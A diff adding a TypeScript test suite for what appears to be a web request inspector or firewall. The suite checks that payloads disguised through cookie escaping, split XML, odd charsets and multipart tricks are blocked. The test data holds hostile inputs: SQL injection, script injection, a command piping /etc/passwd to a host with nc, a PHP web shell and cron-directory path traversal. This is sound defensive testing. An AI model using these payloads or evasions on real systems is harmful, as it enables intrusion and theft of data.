@@ -1,0 +1,200 @@
+// What parsers of backends read and a straightforward reading does not show. The e2e suite `parsers` found
+// most of these by giving generated requests to the parsers themselves.
+import assert from 'node:assert/strict'
+import { describe, test } from 'node:test'
+import { inspect } from '../src/inspect.ts'
+
+const SQL = "1' UNION SELECT username,password FROM users-- -"
+const FORM = 'application/x-www-form-urlencoded'
+
+function post(body: string | Uint8Array, type: string): string {
+  return inspect({ method: 'POST', target: '/', headers: ['content-type', type], body: Buffer.from(body) })
+    .verdict
+}
+
+function cookie(value: string): string {
+  return inspect({ method: 'GET', target: '/', headers: ['cookie', value] }).verdict
+}
+
+function octal(text: string): string {
+  return text.replace(/\W/g, letter => `\\${letter.charCodeAt(0).toString(8).padStart(3, '0')}`)
+}
+
+describe('an attack in a cookie', () => {
+  for (const [what, attack] of [
+    ['SQL', SQL],
+    ['markup', '<script>alert(document.cookie)</script>'],
+    ['a command', '; cat /etc/passwd | nc 10.1.1.1 99'],
+  ] as const)
+    test(`is read in quotes where every sign is escaped: ${what}`, () => {
+      for (const around of [(text: string) => `id="${text}"`, (text: string) => `a=1; id = "${text}"; b=2`])
+        assert.equal(cookie(around(octal(attack))), 'block')
+    })
+
+  test('is read in a value without a name', () => {
+    assert.equal(cookie(`"${octal(SQL)}"`), 'block')
+    assert.equal(cookie(`="${octal(SQL)}";a=1`), 'block')
+  })
+
+  test('is read where plus signs and spaces stand side by side', () => {
+    assert.equal(cookie('v=, id = 1%27+UNION+SELECT+username%2Cpassword+FROM+users--+-'), 'block')
+  })
+
+  test('but honest cookies in quotes pass', () => {
+    for (const value of ['theme="dark"; lang="en\\054us"', 'q="a; b"; c="x+y z"', 'j="{\\"a\\":1}"'])
+      assert.equal(cookie(value), 'pass', value)
+  })
+})
+
+describe('a text of XML', () => {
+  for (const [what, break_] of [
+    ['a comment', '<!-- -->'],
+    ['a section of character data', '<![CDATA[]]>'],
+    ['an instruction', '<?x?>'],
+    ['an element', '<b/>'],
+    ['an element with a text of its own', '<b>zz</b>'],
+    ['a reference', '&#x20;'],
+  ] as const)
+    test(`is one text though ${what} parts it`, () => {
+      const text = SQL.replaceAll(/(?<=[UESFO])(?=[NLRE])/g, break_ === '&#x20;' ? '' : break_)
+      const parted = text.replaceAll(' ', break_ === '&#x20;' ? break_ : ' ')
+      for (const type of ['application/xml', 'text/xml', 'application/soap+xml', 'text/plain'])
+        assert.equal(post(`<a><id>${parted}</id></a>`, type), 'block', type)
+    })
+
+  test('is read in a section of character data that is broken', () => {
+    assert.equal(post(`<a><id><![CDATA [${SQL}]]></id></a>`, 'application/xml'), 'block')
+  })
+
+  test('is one text to readers of all that an element holds', () => {
+    const words = "1' UNI|ON SEL|ECT username,pass|word FR|OM users-- -".split('|')
+    assert.equal(post(`<a>${words.map(word => `<b>${word}</b>`).join('')}</a>`, 'application/xml'), 'block')
+  })
+
+  test('passes where honest pieces stand side by side', () => {
+    const mixed = '<p>Select <b>one</b> from <i>the union</i> of <code>users</code>; drop us a line.</p>'
+    assert.equal(post(mixed, 'application/xml'), 'pass')
+    assert.equal(post("<r><id>1</id><name>O'Brien</name><op>or</op><n>1</n></r>", 'text/xml'), 'pass')
+  })
+})
+
+describe('a form', () => {
+  const attack = encodeURIComponent(SQL).replaceAll("'", '%27')
+
+  for (const first of ['{"a":1}', '<html>', '[1]'])
+    test(`is read behind ${first}, whatever the name of a later field`, () => {
+      for (const name of ['id', 'id\0', 'id%00', '', ' id', 'número', 'a[b]'])
+        assert.equal(post(`${first}&x=1&${name}=${attack}`, FORM), 'block', JSON.stringify(name))
+    })
+
+  test('under a coding is read as it was sent too, also where the coding ends early', () => {
+    for (const coding of ['gzip', 'deflate', 'br', 'zstd', 'x-unknown'])
+      for (const sent of [`{"a":1}&amp;=${attack}&b=1`, `a=1&id\0x=${attack}`, `&id=${attack}`]) {
+        const headers = ['content-type', FORM, 'content-encoding', coding]
+        const { verdict } = inspect({ method: 'POST', target: '/', headers, body: Buffer.from(sent) })
+        assert.equal(verdict, 'block', `${coding}: ${sent}`)
+      }
+  })
+
+  test('in a charset that hides ASCII from whoever does not decode it is refused', () => {
+    for (const charset of [
+      'utf-7',
+      'UTF7',
+      'unicode-1-1-utf-7',
+      'iso-2022-jp',
+      'hz-gb-2312',
+      'unicode_escape',
+      'raw-unicode-escape',
+      'cp037',
+      'ibm500',
+      'x-IBM1026',
+      'cp1026',
+      'cp273',
+      'utf-32',
+    ])
+      for (const type of [`${FORM}; charset=${charset}`, `${FORM} ; CHARSET = "${charset}"`])
+        assert.equal(post('a=1', type), 'too-big', type)
+  })
+
+  test('in a charset in which ASCII is ASCII is read', () => {
+    for (const charset of ['utf-8', 'UTF8', 'iso-8859-15', 'windows-1252', 'cp1251', 'ibm866', 'shift_jis'])
+      for (const more of ['', 'gbk', 'big5', 'euc-kr', 'koi8-r', 'x-user-defined', 'binary', 'none']) {
+        const type = `${FORM}; charset=${more || charset}`
+        assert.equal(post('a=1', type), 'pass', type)
+        assert.equal(post(`a=${attack}`, type), 'block', type)
+      }
+  })
+})
+
+describe('a document in a charset that cannot be read', () => {
+  test('is refused, by the label and by its own declaration', () => {
+    assert.equal(post('{"a":1}', 'application/json; charset=utf-7'), 'too-big')
+    assert.equal(post('<?xml version="1.0" encoding="utf-7"?><a>+AGE-</a>', 'text/xml'), 'too-big')
+    assert.equal(post("<?xml version='1.0' encoding='cp1026'?><a/>", 'application/xml'), 'too-big')
+  })
+
+  test('passes in one that can', () => {
+    assert.equal(post('<?xml version="1.0" encoding="ISO-8859-1"?><a>b</a>', 'text/xml'), 'pass')
+    assert.equal(post('{"a":1}', 'application/json; charset=utf-16'), 'pass')
+  })
+})
+
+describe('JSON in UTF-16 without a mark', () => {
+  test('is read whatever it begins with', () => {
+    for (const json of [JSON.stringify(SQL), JSON.stringify({ é: SQL }), JSON.stringify([SQL])]) {
+      const bytes = Buffer.from(json, 'utf16le')
+      for (const body of [bytes, Buffer.from(bytes).swap16()])
+        assert.equal(post(body, 'application/json'), 'block', json)
+    }
+  })
+
+  test('is not what a script is taken for that a server would run', () => {
+    const script = Buffer.from('[\0 \0 \0 \0 \0 \0 \0 \0<?php system($_GET["c"]); ?>')
+    const put = { method: 'PUT', target: '/files/x.php', body: script }
+    assert.equal(inspect({ ...put, headers: ['content-type', 'application/octet-stream'] }).verdict, 'block')
+  })
+})
+
+describe('a multipart body', () => {
+  const type = 'multipart/form-data; boundary=x'
+  const field = 'Content-Disposition: form-data; name="id"'
+
+  test('with a value in base64 is read as Django decodes it: what is not base64 is dropped', () => {
+    const coded = Buffer.from(SQL).toString('base64')
+    for (const value of [coded, `${coded}:`, coded.replace(/(.{5})/g, '$1 '), `!${coded}`])
+      assert.equal(
+        post(`--x\r\n${field}\r\nContent-Transfer-Encoding: base64\r\n\r\n${value}\r\n--x--`, type),
+        'block',
+        value,
+      )
+  })
+
+  test('with an encoded word for a name is read as Tomcat decodes it', () => {
+    const word = `=?utf-8?B?${Buffer.from('../../../etc/cron.d/x').toString('base64')}?=`
+    const quoted = '=?iso-8859-1?Q?=2E=2E=2F=2E=2E=2F=2E=2E=2Fetc=2Fcron=2Ed=2Fx?='
+    for (const name of [word, quoted]) {
+      const part = `${field.replace('id', 'f')}; filename="${name}"\r\n\r\nhello`
+      assert.equal(post(`--x\r\n${part}\r\n--x--\r\n`, type), 'block', name)
+    }
+  })
+
+  test('is read outside of its parts, whatever the head there is called', () => {
+    for (const head of ['Content-D: form-data; name="id"', 'Cont\u000bent-Disposition: a; b', 'X'])
+      for (const body of [
+        `--y\r\n--x--\r\n${head}\r\n\r\n${SQL}\r\n--x--\r\n`,
+        ` --x\r\n${head}\r\n\r\n${SQL}\r\n--x--`,
+        `${head}\r\n\r\n${SQL}\r\n--x\r\n${field}\r\n\r\n1\r\n--x--\r\n`,
+      ])
+        assert.equal(post(body, type), 'block', body)
+  })
+
+  test('may have a preamble and an epilogue', () => {
+    const body = `This is a multi-part message in MIME format.\r\n--x\r\n${field}\r\n\r\n1\r\n--x--\r\nGoodbye\r\n`
+    assert.equal(post(body, type), 'pass')
+  })
+
+  test('with a part in a charset that cannot be read is refused', () => {
+    const part = `${field}\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n+AGE-`
+    assert.equal(post(`--x\r\n${part}\r\n--x--\r\n`, type), 'too-big')
+  })
+})
